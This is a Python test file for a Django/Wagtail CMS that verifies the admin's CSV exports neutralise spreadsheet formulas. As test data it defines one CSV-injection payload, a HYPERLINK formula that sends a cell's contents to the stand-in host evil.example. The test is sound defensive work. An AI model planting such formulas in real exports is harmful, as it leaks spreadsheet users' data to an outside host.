"""No export of the admin holds a formula."""

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from django.test import Client
from django.urls import NoReverseMatch, URLPattern, URLResolver, get_resolver, reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.models import Locale, Site

from cms.exports import FORMULA_BEGINNINGS, as_text, write_csv_row
from news.models import NewsIndexPage
from search.models import PastQuery, Promotion, SynonymSet
from tests.factories import AuthorFactory, CategoryFactory, make_article
from tests.people import log_in, make_user

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"harbour")'


def views(patterns: list[Any], names: tuple[str, ...] = ()) -> Iterator[tuple[str, Any]]:
    """Yields the name of each address that takes no arguments, and its view class."""
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from views(pattern.url_patterns, (*names, pattern.namespace) if pattern.namespace else names)
        elif isinstance(pattern, URLPattern) and pattern.name and hasattr(pattern.callback, "view_class"):
            yield ":".join((*names, pattern.name)), pattern.callback


def exports() -> dict[str, Any]:
    """Returns the views that export, by the names of their addresses."""
    found = {}
    for name, callback in views(get_resolver().url_patterns):
        if issubclass(callback.view_class, SpreadsheetExportMixin):
            found[name] = callback.view_class
    return found


def test_every_export_is_written_by_one_function() -> None:
    found = exports()

    assert {"search_report", "wagtailadmin_reports:locked_pages"} <= found.keys()
    for name, view in found.items():
        assert view.write_csv_row is write_csv_row, name
        assert view.stream_csv is SpreadsheetExportMixin.stream_csv, name
        assert view.as_spreadsheet is SpreadsheetExportMixin.as_spreadsheet, name


@pytest.mark.parametrize("beginning", FORMULA_BEGINNINGS)
def test_what_begins_like_a_formula_is_a_text(beginning: str) -> None:
    assert as_text(f"{beginning}1+1") == f"'{beginning}1+1"
    assert as_text(f" {beginning}1+1") == f"' {beginning}1+1"


def test_everything_else_stays_as_it_is() -> None:
    for value in ("harbour", "1-1", "", -5, 1.5, None, True, "a=b"):
        assert as_text(value) is value


@pytest.mark.django_db
def test_no_export_holds_a_formula(site: Site, index: NewsIndexPage) -> None:
    """Asks for all of them, with a hostile text in whatever they list."""
    locale = Locale.get_default()
    user = make_user(is_superuser=True, first_name=FORMULA[:30], last_name=FORMULA[:30])
    article = make_article(index, title=FORMULA, embargo=True, embargo_note=FORMULA, owner=user)
    article.locked, article.locked_by = True, user
    article.save()
    article.save_revision(user=user, log_action=True)
    AuthorFactory(name=FORMULA)
    CategoryFactory(name=FORMULA)
    PastQuery.objects.create(locale="en", key="x", text=FORMULA, searches=1, found=0, last_on="2026-05-01")
    SynonymSet.objects.create(locale=locale, expressions=f"{FORMULA}\nx")
    Promotion.objects.create(locale=locale, queries=FORMULA, page=article)
    browser = log_in(user)

    exported = 0
    for name in exports():
        try:
            address = reverse(name)
        except NoReverseMatch:  # it wants the key of something
            continue
        for cell in cells(browser, address):
            assert not cell.startswith(FORMULA_BEGINNINGS), (name, cell)
            exported += FORMULA[:30] in cell

    assert exported >= 4


def cells(browser: Client, address: str) -> Iterator[str]:
    """Yields the cells of an export as CSV; nothing where a view has none."""
    answer = browser.get(address, {"export": "csv"})
    if answer.status_code == 200 and answer.headers["Content-Type"] == "text/csv":
        for row in csv.reader(io.StringIO(b"".join(answer).decode())):
            yield from row
